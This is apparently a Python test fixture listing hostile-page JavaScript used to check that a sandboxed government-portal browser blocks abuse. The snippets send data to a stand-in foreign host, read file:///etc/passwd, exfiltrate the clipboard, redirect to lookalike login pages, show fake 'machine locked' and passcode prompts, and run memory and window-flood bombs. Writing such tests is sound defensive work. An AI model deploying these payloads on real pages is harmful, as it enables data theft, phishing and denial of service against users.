"""What a page in the wrong hands may try: ways out to a foreign host, ways to the machine, ways to wear a person down.

Each is a script that the hostile page runs when it is loaded and again when it is tapped. `F` stands for the foreign
host; a request that reaches it is a finding.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.portal.standins.hosts import ELSEWHERE, LOOKALIKE

FOREIGN = f"https://{ELSEWHERE}/"
SET = f"const F = '{FOREIGN}';"


@dataclass(frozen=True, slots=True, kw_only=True)
class Abuse:
    """One attempt; `fatal` may end the page, so that the next one begins with a new process."""

    name: str
    script: str = ""
    head: str = ""
    body: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    on_load: bool = True
    fatal: bool = False
    resolver_only: bool = False
    """The browser asks nobody about it but the resolver: held where the foreign host is none of any portal's."""
    seconds: float = 0.5
    """How long it is left to work."""


def _out(name: str, script: str = "", **more: object) -> Abuse:
    return Abuse(name=name, script=f"{SET}{script}", **more)  # type: ignore[arg-type]


REQUESTS = (
    _out("picture", "new Image().src = F + 'picture'"),
    _out("fetch", "fetch(F + 'fetch', { mode: 'no-cors' })"),
    _out("fetch-redirected", "fetch('/pha/di-cho-khac?den=' + F + 'fetch-redirected', { mode: 'no-cors' })"),
    _out("posting-redirected", "const x = new XMLHttpRequest(); x.open('POST', '/pha/di-cho-khac?den=' + F + 'posting-redirected'); x.send('x')"),
    _out("beacon-redirected", "navigator.sendBeacon('/pha/di-cho-khac?den=' + F + 'beacon-redirected', 'x')"),
    _out("keepalive-redirected", "fetch('/pha/di-cho-khac?den=' + F + 'keepalive-redirected', { mode: 'no-cors', keepalive: true })"),
    _out("pictures-redirected", "new Image().src = '/pha/di-cho-khac?den=' + F + 'picture-redirected'", body=f"<video autoplay muted src='/pha/di-cho-khac?den={FOREIGN}video-redirected'></video>", head=f"<link rel=stylesheet href='/pha/di-cho-khac?den={FOREIGN}style-redirected'>"),
    _out("scripts-redirected", "import('/pha/di-cho-khac?den=' + F + 'module-redirected').catch(() => 0); new Worker('/pha/di-cho-khac?den=' + F + 'worker-redirected')"),
    _out("events-redirected", "new EventSource('/pha/di-cho-khac?den=' + F + 'events-redirected')"),
    _out("redirected-twice", "fetch('/pha/di-cho-khac?den=' + encodeURIComponent('/pha/di-cho-khac?den=' + F + 'twice'), { mode: 'no-cors' })"),
    _out("redirected-in-a-made-frame", body=f"<iframe srcdoc=\"<script>fetch('https://dichvucong.gov.vn/pha/di-cho-khac?den={FOREIGN}made-frame', {{ mode: 'no-cors' }})</script>\"></iframe>"),
    _out("redirected-in-an-empty-frame", "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('/pha/di-cho-khac?den=' + F + 'empty-frame', { mode: 'no-cors' })"),
    _out("redirected-in-a-made-worker", "new Worker(URL.createObjectURL(new Blob([`fetch('https://dichvucong.gov.vn/pha/di-cho-khac?den=${F}made-worker', { mode: 'no-cors' })`])))"),
    _out("redirected-in-a-worker", "const w = new Worker('/pha/tho.js'); w.postMessage(`fetch('/pha/di-cho-khac?den=${F}in-a-worker', { mode: 'no-cors' })`)", resolver_only=True),
    _out("redirected-in-a-service-worker", "navigator.serviceWorker.register('/pha/dich-vu.js', { scope: '/pha/' }).then(r => navigator.serviceWorker.ready).then(r => r.active.postMessage('/pha/di-cho-khac?den=' + F + 'in-a-service'))", seconds=1.2, resolver_only=True),
    _out("fetch-keepalive", "fetch(F + 'keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })"),
    _out("xhr", "const x = new XMLHttpRequest(); x.open('POST', F + 'xhr'); x.send('x')"),
    _out("websocket", f"new WebSocket('wss://{ELSEWHERE}/websocket')"),
    _out("event-source", "new EventSource(F + 'events')"),
    _out("beacon", "navigator.sendBeacon(F + 'beacon', 'x')"),
    _out("web-transport", "new WebTransport(F + 'transport').ready.catch(() => 0)"),
    _out("peer-connection", f"const p = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{ELSEWHERE}:443?transport=tcp' }}] }}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"),
    _out("script", "const s = document.createElement('script'); s.src = F + 'script.js'; document.body.append(s)"),
    _out("module", "import(F + 'module.js').catch(() => 0)"),
    _out("style-and-font", head=f"<style>@import '{FOREIGN}style.css'; @font-face {{ font-family: f; src: url({FOREIGN}font.woff2) }} body {{ font-family: f; background: url({FOREIGN}background.png) }}</style>"),
    _out("icon-and-manifest", head=f"<link rel=icon href='{FOREIGN}icon.png'><link rel=manifest href='{FOREIGN}manifest.json'>"),
    _out("link-hints", head="".join(f"<link rel='{kind}' as=image href='{FOREIGN}{kind}'>" for kind in ("prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "prerender"))),
    _out("link-header", headers=(("Link", f"<{FOREIGN}header.css>; rel=preload; as=style"),)),
    _out("speculation", body=f'<script type="speculationrules">{{"prerender":[{{"urls":["{FOREIGN}prerender"]}}],"prefetch":[{{"urls":["{FOREIGN}speculated"],"eagerness":"immediate"}}]}}</script>'),
    _out("media", body=f"<video autoplay muted src='{FOREIGN}video.mp4'></video><audio autoplay src='{FOREIGN}audio.mp3'></audio>"),
    _out("object-and-embed", body=f"<object data='{FOREIGN}object'></object><embed src='{FOREIGN}embed'>"),
    _out("drawing", body=f"<svg><image href='{FOREIGN}drawing.png' /><use href='{FOREIGN}use.svg#a' /></svg>"),
    _out("link-ping", body=f"<a id=p ping='{FOREIGN}ping' href='#x'>x</a>", script="document.getElementById('p').click()"),
    _out("report-of-the-policy", "new Image().src = '/other'", headers=(("Content-Security-Policy-Report-Only", f"img-src 'none'; report-uri {FOREIGN}policy"), ("Reporting-Endpoints", f'main="{FOREIGN}reports"'), ("NEL", '{"report_to":"main","max_age":9,"success_fraction":1}'))),
    _out("worker", "const w = new Worker('/pha/tho.js'); w.postMessage(`fetch('${F}worker', { mode: 'no-cors' })`)"),
    _out("worker-imports", "new Worker(URL.createObjectURL(new Blob([`importScripts('${F}imported.js')`])))"),
    _out("shared-worker", "const w = new SharedWorker(URL.createObjectURL(new Blob([`onconnect = () => fetch('${F}shared', { mode: 'no-cors' })`]))); w.port.start()"),
    _out("service-worker", "navigator.serviceWorker.register('/pha/dich-vu.js', { scope: '/pha/' }).then(r => navigator.serviceWorker.ready).then(r => r.active.postMessage(F + 'service'))", seconds=1.2),
    _out("plain-http", f"fetch('http://{ELSEWHERE}/plain', {{ mode: 'no-cors' }}); fetch('http://dichvucong.gov.vn/plain', {{ mode: 'no-cors' }})"),
    _out("bare-address", "fetch('https://127.0.0.1:' + PORT + '/bare', { mode: 'no-cors' }); new Image().src = 'http://127.0.0.1:' + PORT + '/bare'"),
    _out("other-port", "fetch('https://dichvucong.gov.vn:8443/port', { mode: 'no-cors' })"),
    _out("name-before-the-host", f"fetch('https://dichvucong.gov.vn@{ELSEWHERE}/name', {{ mode: 'no-cors' }}).catch(() => 0); location.href = 'https://dichvucong.gov.vn@{ELSEWHERE}/name'"),
    _out("lookalike", f"new Image().src = 'https://{LOOKALIKE}/lookalike'; location.href = 'https://{LOOKALIKE}/dang-nhap'"),
)  # fmt: skip
"""What a page loads or sends without leaving."""

PLACES = (
    _out("frame", body=f"<iframe src='{FOREIGN}frame'></iframe>"),
    _out("frame-redirected", body=f"<iframe src='/pha/di-cho-khac?den={FOREIGN}frame-redirected'></iframe>"),
    _out("frame-of-words", body=f"<iframe srcdoc=\"<img src='{FOREIGN}srcdoc'>\"></iframe>"),
    _out("frame-of-data", body=f"<iframe src=\"data:text/html,<img src='{FOREIGN}data'>\"></iframe>"),
    _out("frame-of-blob", "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<script>fetch('${F}blob', { mode: 'no-cors' })</scr` + `ipt>`], { type: 'text/html' })); document.body.append(f)"),
    _out("going-there", "location.href = F + 'going'"),
    _out("going-there-redirected", "location.href = '/pha/di-cho-khac?den=' + F + 'redirected'"),
    _out("replacing", "location.replace(F + 'replaced')"),
    _out("meta-refresh", head=f"<meta http-equiv=refresh content='0; url={FOREIGN}meta'>"),
    _out("refresh-header", headers=(("Refresh", f"0; url={FOREIGN}refresh"),)),
    _out("form", body=f"<form id=f method=post action='{FOREIGN}form'><input name=a value=b></form>", script="document.getElementById('f').submit()"),
    _out("form-in-a-new-window", body=f"<form id=f target=_blank method=post action='{FOREIGN}blank'><input name=a value=b></form>", script="document.getElementById('f').submit()"),
    _out("new-window", "window.open(F + 'window'); window.open(F + 'window', 'x', 'popup,width=200,height=200')"),
    _out("empty-window-written-to", "const w = window.open(''); w.document.write(`<img src='${F}written'>`); w.document.close()"),
    _out("link-in-a-new-window", body=f"<a id=l target=_blank href='{FOREIGN}link'>x</a>", script="document.getElementById('l').click()"),
    _out("other-base", head=f"<base href='{FOREIGN}'>", body="<a id=l href='base'>x</a>", script="document.getElementById('l').click()"),
    _out("opener-in-a-frame", body="<iframe src='/pha/trong'></iframe>", script="setTimeout(() => { frames[0].location = F + 'child' }, 200)"),
    _out("back-and-forth", "history.pushState({}, '', '/pha/trong'); history.back(); location.assign(F + 'assigned')"),
)  # fmt: skip
"""Places a page, a frame or a window wants to go to."""

MACHINE = (
    _out("file", "location.href = 'file:///etc/passwd'; window.open('file:///etc/passwd')", body="<iframe src='file:///etc/passwd'></iframe><img src='file:///etc/passwd'>"),
    _out("view-source", "location.href = 'view-source:https://dichvucong.gov.vn/'; window.open('view-source:https://dichvucong.gov.vn/')"),
    _out("browser-pages", "location.href = 'chrome://gpu'; window.open('chrome://version'); window.open('devtools://devtools/bundled/inspector.html')"),
    _out("data-page", "location.href = 'data:text/html,<h1>Nhập passcode'; window.open('data:text/html,x')"),
    _out("other-programs", "for (const to of ['tel:113', 'mailto:a@b.c', 'vneid://x', 'intent://x#Intent;scheme=vneid;end', 'ms-settings:']) { const f = document.createElement('iframe'); f.src = to; document.body.append(f); window.open(to); location.href = to }"),
    _out("protocol-handler", "navigator.registerProtocolHandler('web+vneid', '/pha/trong?%s')"),
    _out("download", "const a = document.createElement('a'); a.href = '/pha/tai-ve'; a.download = 'x.pdf'; document.body.append(a); a.click()"),
    _out("download-by-going", "location.href = '/pha/tai-ve'"),
    _out("download-flood", "for (let i = 0; i < 60; i++) { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'.repeat(9999)])); a.download = i + '.exe'; a.click() }"),
    _out("file-chooser", "const i = document.createElement('input'); i.type = 'file'; i.multiple = true; i.webkitdirectory = true; i.onchange = () => fetch('/pha/thu', { method: 'POST', body: [...i.files].map(f => f.name).join() }); i.click()"),
    _out("file-system", "window.showOpenFilePicker?.().catch(() => 0); window.showDirectoryPicker?.().catch(() => 0); window.showSaveFilePicker?.().catch(() => 0)"),
    _out("clipboard", "navigator.clipboard.readText().then(t => fetch('/pha/thu', { method: 'POST', body: 'clipboard ' + t }), () => 0); document.execCommand('paste')"),
    _out("place-of-the-machine", "navigator.geolocation.getCurrentPosition(() => fetch('/pha/thu', { method: 'POST', body: 'place' }), () => 0)"),
    _out("camera-and-microphone", "navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(() => fetch('/pha/thu', { method: 'POST', body: 'camera' }), () => 0)"),
    _out("screen-capture", "navigator.mediaDevices.getDisplayMedia().then(() => fetch('/pha/thu', { method: 'POST', body: 'screen' }), () => 0)"),
    _out("notifications", "Notification.requestPermission().then(p => p === 'granted' && fetch('/pha/thu', { method: 'POST', body: 'notification' })); try { new Notification('x') } catch (e) {}"),
    _out("devices", "navigator.usb?.requestDevice({ filters: [] }).catch(() => 0); navigator.hid?.requestDevice({ filters: [] }).catch(() => 0); navigator.serial?.requestPort().catch(() => 0); navigator.bluetooth?.requestDevice({ acceptAllDevices: true }).catch(() => 0)"),
    _out("security-key", "navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8), timeout: 900 } }).catch(() => 0); navigator.credentials.get({ password: true }).catch(() => 0)"),
    _out("local-fonts", "window.queryLocalFonts?.().then(f => f.length && fetch('/pha/thu', { method: 'POST', body: 'fonts' }), () => 0)"),
    _out("printing", "print(); setTimeout(print, 100); document.execCommand('print')"),
    _out("full-screen", "document.documentElement.requestFullscreen().catch(() => 0); document.getElementById('tap').requestPointerLock?.(); navigator.keyboard?.lock?.()"),
    _out("moving-the-window", "moveTo(-3000, -3000); resizeTo(10, 10); resizeBy(-900, -900); blur()"),
    _out("closing-itself", "window.close(); window.open('', '_self'); window.close()"),
)  # fmt: skip
"""What belongs to the machine and not to a page."""

WEARING_DOWN = (
    _out("endless-alerts", "const go = () => { alert('Máy của bạn đã bị khoá'); setTimeout(go, 0) }; go()", on_load=False, seconds=2),
    _out("endless-questions", "const go = () => { confirm('Nhập passcode để tiếp tục?'); prompt('Passcode:'); setTimeout(go, 0) }; go()", on_load=False, seconds=2),
    _out("will-not-be-left", "addEventListener('beforeunload', e => { e.preventDefault(); e.returnValue = 'x' }); setTimeout(() => { location.href = '/pha/trong' }, 100)", on_load=False),
    _out("print-loop", "setInterval(print, 20)"),
    _out("window-flood", "for (let i = 0; i < 40; i++) window.open('/pha/trong?' + i, 'w' + i)"),
    _out("payment-window-flood", "for (let i = 0; i < 40; i++) window.open('https://pay.vietcombank.com.vn/thanh-toan?' + i, 'w' + i)"),
    _out("frame-flood", "for (let i = 0; i < 60; i++) { const f = document.createElement('iframe'); f.src = '/pha/trong?' + i; document.body.append(f) }", on_load=False, fatal=True, seconds=2),
    _out("worker-flood", "for (let i = 0; i < 60; i++) new Worker(URL.createObjectURL(new Blob(['for (;;) {}'])))", on_load=False, fatal=True, seconds=2),
    _out("history-flood", "for (let i = 0; i < 3000; i++) history.pushState({}, '', '?' + i)"),
    _out("address-flood", "let n = 0; const t = setInterval(() => { location.hash = n++; if (n > 400) clearInterval(t) }, 1)"),
    _out("huge-title", "document.title = 'x'.repeat(20000000)"),
    _out("huge-page", "document.body.append(document.createElement('div')); document.body.lastChild.innerHTML = '<div><input>'.repeat(30000)", on_load=False, seconds=3, fatal=True),
    _out("deep-frames", body="<iframe src='/pha/deep-frames?' id=d></iframe>", script="document.getElementById('d').src = location.pathname + '?' + Math.random()", on_load=False, fatal=True, seconds=2),
    _out("endless-loop", "for (;;) {}", on_load=False, fatal=True, seconds=3),
    _out("endless-scripts", "const go = () => { queueMicrotask(go) }; go()", on_load=False, fatal=True, seconds=3),
    _out("memory-bomb", "const kept = []; const go = () => { for (let i = 0; i < 60; i++) kept.push(new Array(1000000).fill(i)); setTimeout(go, 0) }; go()", on_load=False, fatal=True, seconds=6),
    _out("buffer-bomb", "const kept = []; const go = () => { const b = new Uint8Array(200 << 20).fill(7); kept.push(b); if (kept.length < 12) setTimeout(go, 0) }; go()", on_load=False, fatal=True, seconds=5),
    _out("storage-bomb", "(async () => { const c = await caches.open('c'); for (let i = 0; i < 40; i++) await c.put('/x' + i, new Response(new Uint8Array(8 << 20))) })()", seconds=2, fatal=True),
    _out("changing-without-end", "setInterval(() => { document.body.insertAdjacentHTML('beforeend', '<p><label>Họ tên <input></label>'); document.querySelector('p')?.remove() }, 1)"),
    _out("noise", "const u = new SpeechSynthesisUtterance('x'); speechSynthesis.speak(u); navigator.vibrate?.([900]); new AudioContext().createOscillator().start()"),
)  # fmt: skip
"""What wears the machine or the person down."""

ABUSES = (*REQUESTS, *PLACES, *MACHINE, *WEARING_DOWN)
